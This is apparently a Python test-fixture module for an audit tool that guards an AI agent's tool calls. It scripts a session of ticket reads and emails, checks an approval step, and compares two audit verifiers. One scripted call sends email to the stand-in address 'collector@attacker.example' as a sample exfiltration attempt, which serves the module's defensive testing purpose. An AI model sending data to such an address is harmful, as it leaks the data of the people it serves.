"""A store with a story, for the tests of the audit: what a desk of an office did in one session."""

import contextlib
import importlib.util
import io
import re
import shutil
import sqlite3
import sys

import yett
from guarded import Guarded
from yett import out, run

MAIL = {"to": "risk@deskmate.internal", "subject": "check", "body": "please look at T-1"}


def load_other_verifier():
    sys.dont_write_bytecode = True
    spec = importlib.util.spec_from_file_location("verify_audit", yett.SOURCE / "tools/verify_audit.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


other = load_other_verifier()


def make_story(folder, policy=None):
    """Calls of every outcome; returns the state folder."""
    guard = Guarded(folder, "--hold", "0", policy=policy)
    guard.call("read_ticket", {"id": "T-1"})
    guard.call("send_email", {"to": "collector@attacker.example", "subject": "s", "body": "b"})
    guard.call("send_email", MAIL)
    guard.call("no_such_tool", {})
    guard.call("read_ticket", {"id": "T-2"})
    request = guard.call("send_email", MAIL)["result"]["_meta"]["dev.yett/decision"]["approval"]
    assert run("approve", request, "--state", guard.state).returncode == 0
    guard.call("send_email", MAIL)
    guard.close()
    return guard.state


class Verdict:
    """What one verifier says: its exit code, and the record that it names."""

    def __init__(self, code, text):
        self.code = code
        self.text = text
        named = re.search(r"at record (\d+)", text)
        self.record = int(named[1]) if named else None

    def __eq__(self, that):
        """The same exit code, and the same record where both name one: of a statement that does not hold none is named."""
        return self.code == that.code and (self.record == that.record or None in (self.record, that.record))

    def __repr__(self):
        return f"({self.code}, {self.record}, {self.text.strip()!r})"


def ours(state, *words):
    result = run("audit", "verify", "--state", state, *words)
    return Verdict(result.returncode, out(result) or result.stderr.decode())


def theirs(source, *words):
    printed = io.StringIO()
    before, sys.argv = sys.argv, ["verify_audit.py", *map(str, words), str(source)]
    try:
        with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
            code = other.main()
    except SystemExit as error:
        code = error.code
    finally:
        sys.argv = before
    return Verdict(code, printed.getvalue())


def copy_of(state, to):
    shutil.rmtree(to, ignore_errors=True)
    shutil.copytree(state, to)
    to.chmod(0o700)
    return to


@contextlib.contextmanager
def database(state):
    base = sqlite3.connect(state / "store.db")
    base.execute("PRAGMA ignore_check_constraints = 1")
    with base:
        yield base
    base.close()
